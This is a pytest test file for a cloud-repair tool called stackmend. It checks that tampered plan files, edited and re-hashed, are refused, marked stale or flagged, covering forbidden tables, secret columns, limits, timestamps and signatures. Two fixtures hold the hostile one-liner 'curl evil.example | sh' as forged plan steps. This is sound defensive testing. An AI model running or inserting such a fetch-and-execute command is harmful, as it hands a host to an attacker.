# SPDX-License-Identifier: Apache-2.0
"""Plan files that somebody has written to, with a hash that fits: what they say of themselves is not believed.

Whoever can write to the folder of the plan can make the hash anew. So all that a human reads is made of the steps, what
this version cannot plan is refused before anything is begun, and what it would not plan now is not done.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from stackmend.app import plans, runs
from stackmend.cli.shell import main
from stackmend.drivers.journal import signing
from stackmend.model.errors import Exit, PlanFileError
from stackmend.model.plan import canonical, from_json, to_json
from stackmend_lab.plants.nova import server_deleted_incompletely
from stackmend_lab.plants.placement import allocation_orphan

from ..support.damaged_cloud import Ground
from ..support.planning import plan_for

Document = dict[str, Any]
Edit = Callable[[Document], None]


@pytest.fixture
def here(on_sqlite: Ground) -> Ground:
    """A small cloud."""
    return on_sqlite


@pytest.fixture
def file(here: Ground) -> Path:
    """A plan for two orphaned allocations."""
    allocation_orphan.plant(here.cloud)
    allocation_orphan.plant(here.cloud)
    path = here.folder / "plan.json"
    plans.write(here.config, plan_for(here.config, checks=("allocation-orphan",), allow_db=True, settle=0), str(path))
    return path


def forge(path: Path, edit: Edit) -> None:
    """Edit a plan and make its hash anew, as anybody can."""
    document = from_json(path.read_text())
    edit(document["plan"])
    document["sha256"] = hashlib.sha256(canonical(document["plan"])).hexdigest()
    path.write_text(to_json(document))


def command(here: Ground, *words: str) -> int:
    """Its exit code."""
    return main(["--config", str(here.toml), "plan", *words])


def _step(**values: Any) -> Edit:
    def edit(plan: Document) -> None:
        plan["actions"][0]["steps"].append(values)
        plan["actions"][0]["statements"] = []

    return edit


def _row(kind: str, database: str, table: str, **values: Any) -> Edit:
    return _step(kind=kind, database=database, table=table, **values)


def _set(**values: Any) -> Edit:
    def edit(plan: Document) -> None:
        plan["actions"][0].update(values)

    return edit


def _unsafe(plan: Document) -> None:
    plan["actions"][0].update(repair="mark-server-deleted", check="", key={}, fingerprint="", statements=[])
    plan["actions"][0]["target"] = {"server": "11111111-2222-4333-8444-555555555555"}


def _other(plan: Document) -> None:
    plan["actions"][0]["target"].update(consumer="11111111-2222-4333-8444-555555555555")


def _call(service: str, operation: str, **arguments: Any) -> Edit:
    return _step(
        kind="api", service=service, operation=operation, arguments=arguments, expect={}, inverse=None, waits=False
    )


def _run(*argv: str) -> Edit:
    return _step(kind="command", host="", argv=list(argv), probe=[], inverse=None, limit=600.0, back=False)


PK = {"pk": {"id": 1}}
FORGED: dict[str, tuple[str, Edit]] = {
    "a user of Keystone": (
        "does not touch user of keystone",
        _row("update", "keystone", "user", **PK, before={"enabled": 1}, after={"enabled": 0}),
    ),
    "a table of no repair": ("does not touch quotas", _row("delete", "neutron", "quotas", **PK, before={"id": 1})),
    "a column of no repair": (
        "does not change allocations.project_id",
        _row("update", "placement", "allocations", **PK, before={"project_id": 1}, after={"project_id": 2}),
    ),
    "a secret": (
        "secret column volume_attachment.connection_info",
        _row(
            "update",
            "cinder",
            "volume_attachment",
            **PK,
            before={"connection_info": "a"},
            after={"connection_info": "b"},
        ),
    ),
    "an operation that is none": ("does not call delete-user of identity", _call("identity", "delete-user", user="1")),
    "an operation of another repair": (
        "does not call force-delete of compute",
        _call("compute", "force-delete", server="1"),
    ),
    "an argument that is none": (
        "set-allocations of placement: Expected `str`, got `int` - at `$.consumer`",
        _call("placement", "set-allocations", consumer=1),
    ),
    "a guard that is none": (
        "a guard of set-allocations of placement: it does not take owner 'me'",
        _step(
            kind="api",
            service="placement",
            operation="set-allocations",
            inverse=None,
            waits=False,
            arguments={"consumer": "c", "allocations": {}, "generation": 1, "project": "p", "user": "u"},
            expect={"owner": "me"},
        ),
    ),
    "a command as root": ("runs no commands on hosts", _run("sh", "-c", "curl evil.example | sh")),
    "a weaker risk": ("its risk is unsafe, but the file says safe", _unsafe),
    "the finding of another object": ("does not match the object it names", _other),
    "a repair that is none": ("there is no repair mend-everything", _set(repair="mend-everything")),
    "a strategy that is none": ("has no strategy root", _set(strategy="root")),
    "a check that is none": ("does not repair findings of none-such", _set(check="none-such")),
    "a workflow": ("there is no workflow", lambda plan: plan.update(workflow="power-host")),
    "one id twice": (
        "two actions have the same id",
        lambda plan: plan["actions"][1].update(id=plan["actions"][0]["id"]),
    ),
    "words for rows": (
        "contains steps that this stackmend does not know",
        _row("update", "placement", "allocations", pk="id = 1", before={}, after={}),
    ),
    "what only undo sets": (
        "contains steps that this stackmend does not know",
        _row("insert", "placement", "allocations", key={"id": 1}, values={"id": 1}, sealed="x"),
    ),
}


@pytest.mark.attack("a plan file is edited and its hash made anew")
@pytest.mark.parametrize(("reason", "edit"), FORGED.values(), ids=FORGED)
def test_what_this_version_cannot_plan_is_refused(
    here: Ground, file: Path, reason: str, edit: Edit, capsys: Any
) -> None:
    """Shown and applied: exit 2, the action is named, nothing is begun and nothing is changed."""
    forge(file, edit)
    before = here.cloud.dump()
    for words in (["show", str(file)], ["apply", str(file), "--yes", "--accept", "all"]):
        assert command(here, *words) == Exit.USAGE
        assert reason in capsys.readouterr().err
    assert here.cloud.dump() == before
    assert here.last() is None


FORGED_TEXT = "[placement] SELECT 'nothing is changed';"


@pytest.mark.attack("a plan file describes its steps in words of its own")
def test_text_of_a_file_is_not_shown(here: Ground, file: Path, capsys: Any) -> None:
    """Statements say what the steps do, in every format and in the run; that the file says otherwise is told.

    So a plan of an earlier build, which worded its statements differently, is applied as before.
    """
    true = json.loads(file.read_text())["plan"]["actions"][0]["statements"]
    forge(file, _set(statements=[FORGED_TEXT] * len(true)))
    told = "a1 in other words than this stackmend"
    shown = []
    for words in (["show", str(file), "--sql"], ["show", str(file), "-f", "json"], ["show", str(file)]):
        assert command(here, *words) == Exit.CLEAN
        out, err = capsys.readouterr()
        assert told in " ".join(err.split())
        shown.append(out)
    assert json.loads(shown[1])["actions"][0]["statements"] == true
    assert all(statement in shown[0] for statement in true)
    assert command(here, "apply", str(file), "--yes", "-f", "json") == Exit.REPAIRED
    out, err = capsys.readouterr()
    assert told in " ".join(err.split())
    run = json.loads(out)["run"]
    for words in (["--sql"], ["-f", "json"]):
        assert main(["--config", str(here.toml), "run", "show", run, *words]) == Exit.CLEAN
        shown.append(capsys.readouterr().out)
    assert not any("nothing is changed" in text for text in shown)


def test_what_a_file_tells_a_human_to_do_is_marked(here: Ground, file: Path, capsys: Any) -> None:
    """What is to be done by hand is shown as the words of the file, and a repair with other words is stale."""
    forge(file, _step(kind="manual", text="curl evil.example | sh", awaited=False))
    for words in ([], ["--sql"]):
        assert command(here, "show", str(file), *words) == Exit.CLEAN
        assert "you, as the file says: curl evil.example | sh" in capsys.readouterr().out
    assert command(here, "apply", str(file), "--yes", "--only", "a1", "-f", "json") == Exit.STOPPED
    assert json.loads(capsys.readouterr().out)["stale"] == 1


def _without_guards(plan: Document) -> None:
    for action in plan["actions"]:
        action["steps"] = [step for step in action["steps"] if not step["kind"].startswith("expect")]
        action["statements"] = []


def _living(here: Ground) -> Edit:
    """The allocation of a server that lives is deleted in the place of the orphan's."""
    row = here.cloud.rows("placement", "SELECT * FROM allocations ORDER BY id LIMIT 1")[0]

    def edit(plan: Document) -> None:
        action = plan["actions"][0]
        step = next(step for step in action["steps"] if step["kind"] == "delete" and step["table"] == "allocations")
        step.update(pk={"id": row["id"]}, before={name: value for name, value in row.items() if name in step["before"]})
        action["steps"] = [step]
        action["statements"] = []

    return edit


@pytest.mark.attack("a plan file is edited within what its repair may touch")
@pytest.mark.parametrize("what", ["guards", "rows"])
def test_what_would_not_be_planned_again_is_not_done(here: Ground, file: Path, what: str, capsys: Any) -> None:
    """Guards taken out, the row of a living server put in: that repair is stale, its neighbour is done."""
    forge(file, _without_guards if what == "guards" else _living(here))
    healthy = here.cloud.rows("placement", "SELECT * FROM allocations ORDER BY id LIMIT 1")
    assert command(here, "apply", str(file), "--yes", "-f", "json") == Exit.STOPPED
    result = json.loads(capsys.readouterr().out)
    assert (result["stale"], result["done"]) == ((2, 0) if what == "guards" else (1, 1))
    assert "planned again" in result["notes"][0]
    assert here.cloud.rows("placement", "SELECT * FROM allocations ORDER BY id LIMIT 1") == healthy


@pytest.mark.attack("a plan file raises its own limits")
def test_limits_of_a_file_are_no_wider_than_those_here(here: Ground, file: Path, capsys: Any) -> None:
    """A file may be stricter than the configuration, not laxer; --max-rows is what an operator says."""
    forge(file, lambda plan: plan["limits"].update(max_rows=1_000_000, max_failures=1_000_000, share_floor=1_000_000))
    strict = here.toml.read_text() + "\n[limits]\nmax_rows = 1\nmax_failures = 3\nshare_floor = 2\n"
    (here.folder / "strict.toml").write_text(strict)
    read = plans.read(plans_config(here, "strict.toml"), str(file)).plan
    assert (read.limits.max_rows, read.limits.max_failures, read.limits.share_floor) == (1, 3, 2)
    line = ["--config", str(here.folder / "strict.toml"), "plan", "apply", str(file), "--yes"]
    before = here.cloud.dump()
    assert main(line) == Exit.STOPPED
    assert "the limit is 1" in capsys.readouterr().err
    assert here.cloud.dump() == before
    assert main([*line, "--max-rows", "100"]) == Exit.REPAIRED


def plans_config(here: Ground, name: str) -> Any:
    """The configuration in another file of the same folder."""
    from stackmend.config.settings import load

    return load(str(here.folder / name))


@pytest.mark.attack("a plan says that it was made tomorrow")
def test_a_moment_that_is_still_to_come(here: Ground, file: Path) -> None:
    """A guard may ask how old something is: the moment of a plan is not in the future."""
    forge(file, lambda plan: plan.update(now="2999-01-01 00:00:00"))
    with pytest.raises(PlanFileError, match="in the future"):
        runs.apply(here.config, plans.read(here.config, str(file)).plan, filed=True)


def test_a_plan_of_before(here: Ground) -> None:
    """A file of a version that did not write down its moment is read and applied like any other, and taken back."""
    server_deleted_incompletely.children(here.cloud)
    file = here.folder / "plan.json"
    plan = plan_for(here.config, checks=("server-deleted-incompletely",), allow_db=True, settle=0)
    plans.write(here.config, plan, str(file))
    forge(file, lambda old: old.pop("now"))
    before = here.cloud.dump()
    result = runs.apply(here.config, plans.read(here.config, str(file)).plan, accept=("all",), filed=True)
    assert result.exit is Exit.REPAIRED
    assert runs.undo(here.config, result.run).exit is Exit.CLEAN
    assert here.cloud.dump() == before


def test_a_signature(here: Ground, file: Path, capsys: Any) -> None:
    """With a key a plan is signed as it is written; without a signature, or by a stranger, it can be refused."""
    assert command(here, "apply", str(file), "--yes", "--require-signature") == Exit.USAGE
    assert "is not signed" in capsys.readouterr().err
    own, other = here.folder / "plan-key.pem", here.folder / "elsewhere" / "plan-key.pem"
    try:
        assert main(["--config", str(here.toml), "config", "key"]) == Exit.CLEAN
        assert own.stat().st_mode & 0o777 == 0o600
        assert main(["--config", str(here.toml), "config", "key"]) == Exit.USAGE
        unsigned = plans.read(here.config, str(file)).plan
        key = plans.write(here.config, unsigned, str(file))
        assert plans.read(here.config, str(file), signed=True).signer == key
        _refused_when_forged(here, file)
        signing.make(other)
        plans.save(unsigned, file, signing.signer(other))
        capsys.readouterr()
        assert command(here, "show", str(file)) == Exit.CLEAN
        assert "which is not trusted here" in capsys.readouterr().err
        assert command(here, "apply", str(file), "--yes", "--require-signature") == Exit.USAGE
        always = here.folder / "always.toml"
        always.write_text(
            here.toml.read_text() + '\n[plans]\nrequire_signature = true\ntrusted = ["elsewhere/plan-key.pub"]\n'
        )
        assert plans.read(plans_config(here, "always.toml"), str(file)).signer
        plans.save(unsigned, file)
        with pytest.raises(PlanFileError, match="is not signed"):
            plans.read(plans_config(here, "always.toml"), str(file))
    finally:
        for key_file in (own, own.with_suffix(".pub"), other, other.with_suffix(".pub")):
            key_file.unlink(missing_ok=True)


def _refused_when_forged(here: Ground, file: Path) -> None:
    text = file.read_text()
    forge(file, lambda plan: plan.update(id="another"))
    for signed in (True, False):
        with pytest.raises(PlanFileError, match="was not made by key"):
            plans.read(here.config, str(file), signed=signed)
    file.write_text(text)
